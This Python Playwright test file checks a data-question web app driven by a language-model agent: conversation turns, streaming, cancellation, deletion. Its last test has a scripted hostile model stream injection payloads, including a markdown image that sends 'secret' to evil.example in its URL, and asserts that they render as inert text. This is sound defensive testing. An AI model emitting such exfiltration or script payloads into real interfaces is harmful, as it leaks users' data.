"""The first page as a conversation: turns, follow-ups, a language model that speaks, and one that means harm."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.agentsite.hostile import PAYLOADS
from tests.browser.visit import Visit, ask
from tests.providers import Provider, running_provider
from tests.services import running_site

pytestmark = pytest.mark.browser


def say(page: Page, message: str) -> None:
    page.get_by_role("textbox").fill(message)
    page.get_by_role("textbox").press("Enter")


def expect_turns(page: Page, *questions: str) -> None:
    """Wait until these were asked and all of them are answered."""
    expect(page.locator(".turn-question")).to_have_text(list(questions))
    expect(page.locator("[data-active]")).to_have_count(0, timeout=30_000)


def test_a_conversation_goes_on_is_kept_and_deleted(page: Page) -> None:
    ask(page, "Revenue per month")
    expect_turns(page, "Revenue per month")
    address = page.url
    say(page, "only 2025")
    expect_turns(page, "Revenue per month", "only 2025")
    expect(page.locator(".turn").last.locator(".answer")).to_contain_text("January 2025")
    expect(page.locator(".turn").last).to_be_in_viewport(ratio=0.3)
    expect(page.locator(".worked-out[open]")).to_have_count(1)
    say(page, "describe the orders table")
    expect_turns(page, "Revenue per month", "only 2025", "describe the orders table")
    expect(page.get_by_role("cell", name="customers.id")).to_be_visible()
    expect(page.locator(".history a")).to_have_count(1)
    assert page.url == address

    page.reload()
    expect_turns(page, "Revenue per month", "only 2025", "describe the orders table")
    expect(page.locator(".call")).to_have_text(["Made a chart", "Made a chart", "Looked at orders"])
    expect(page.locator(".chart")).to_have_count(2)

    page.get_by_role("link", name="New conversation").click()
    expect(page.locator(".turn")).to_have_count(0)
    page.locator(".history a").click()
    expect(page.locator(".turn")).to_have_count(3)
    remove = page.get_by_role("button", name="Delete this conversation")
    remove.click()  # who is asked and says no keeps it
    expect(page.locator(".turn")).to_have_count(3)
    page.on("dialog", lambda dialog: dialog.accept())
    remove.click()
    expect(page.locator("#history-empty")).to_be_visible()
    page.get_by_role("link", name="Charts").click()
    expect(page.locator(".tile")).to_have_count(2)


class Talk:
    """A visitor of a site whose language model follows a script."""

    def __init__(self, visit: Visit, provider: Provider) -> None:
        self.visit, self.page, self.provider = visit, visit.page, provider


@pytest.fixture(scope="module")
def talking(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Provider]]:
    database = f"sqlite:///{tmp_path_factory.mktemp('talk')}/site.sqlite3"
    with (
        running_provider() as provider,
        running_site(database, AGENT_MODEL="openai:talk", **provider.environment()) as site,
    ):
        yield site.address, provider


@pytest.fixture
def talk(browser: Browser, talking: tuple[str, Provider]) -> Iterator[Talk]:
    address, provider = talking
    visit = Visit(browser.new_context(base_url=address))
    yield Talk(visit, provider)
    visit.context.close()
    assert not visit.foreign
    assert not visit.complaints


def test_what_the_model_does_is_shown_as_it_does_it_and_a_reload_goes_on(talk: Talk) -> None:
    page = talk.page
    look = {"tool": "describe_table", "arguments": {"table": "orders"}}
    chart = {"tool": "make_chart", "arguments": {"question": "revenue per month"}}
    talk.provider.script(
        "talk",
        {"steps": [{"thinking": "Orders, then."}, {"text": "Let me look."}, look]},
        {"steps": [chart]},
        {"steps": [{"text": "It **rose**."}, {"wait": 6}, {"text": " A lot."}]},
    )
    ask(page, "How did revenue go?")
    expect(page.locator(".call")).to_have_text(["Looked at orders", "Made a chart"], timeout=30_000)
    expect(page.locator(".chart")).to_have_count(1)  # before the text has come to its end
    expect(page.locator(".streamed")).to_contain_text("It **rose**.", timeout=15_000)
    expect(page.locator(".history-meta")).to_have_text("running")
    say(page, "And now?")
    expect(page.get_by_role("alert")).to_contain_text("still being answered")
    page.reload()
    expect(page.locator(".call")).to_have_text(["Looked at orders", "Made a chart"])
    expect(page.locator("[data-active]")).to_have_count(0, timeout=30_000)
    expect(page.locator(".prose p")).to_have_text(["Let me look.", "It rose. A lot."])
    expect(page.locator(".prose strong")).to_have_text("rose")
    expect(page.locator(".chart")).to_have_count(1)
    expect(page.locator(".streamed")).to_have_text("")


def test_cancel_keeps_what_was_said_and_the_conversation(talk: Talk) -> None:
    page = talk.page
    talk.provider.script("talk", {"steps": [{"text": "Once upon a time"}, {"stall": 60}]}, {"text": "The end."})
    ask(page, "Tell me")
    expect(page.locator(".streamed")).to_have_text("Once upon a time", timeout=15_000)
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator(".op-message")).to_have_text("Cancelled.", timeout=15_000)
    say(page, "Go on")
    expect(page.locator(".turn").last.locator(".prose")).to_have_text("The end.", timeout=15_000)
    page.reload()
    expect(page.locator(".turn").first.locator(".turn-error")).to_have_text("Cancelled.")
    expect(page.locator(".turn").first.locator(".prose")).to_have_text("Once upon a time")


def test_hostile_words_of_a_model_stay_words_however_they_are_cut(talk: Talk) -> None:
    page = talk.page
    page.add_init_script("window.harm = 0; window.canary = () => (window.harm += 1);")
    text = "\n\n".join(PAYLOADS)
    each_sign_alone = [{"text": sign} for sign in text]
    tools = [{"tool": "x", "arguments": {payload: payload}} for payload in PAYLOADS[:3]]
    query = {"tool": "run_query", "arguments": {"sql": f"SELECT '{PAYLOADS[0]}'"}}
    talk.provider.script("talk", {"steps": [*tools, query]}, {"steps": each_sign_alone})
    ask(page, PAYLOADS[2])
    expect(page.locator(".prose")).to_contain_text("![pixel](https://evil.example/p.png?q=secret)", timeout=60_000)
    for _ in range(2):
        expect(page.locator(".turn-question")).to_have_text(PAYLOADS[2])
        assert (
            page.locator(".turn :is(a[href*=evil], img, script, iframe, form, object, style, svg, video)").count() == 0
        )
        assert page.locator(".turn .prose").inner_text().count("canary") == text.count("canary")
        assert page.evaluate("window.harm") == 0
        page.reload()
    page.goto(page.locator(".turn-head a").get_attribute("href") or "")
    expect(page.locator("#timeline tr").first).to_be_visible()
    assert page.evaluate("window.harm") == 0
    assert re.search("canary", page.locator("main").inner_text())
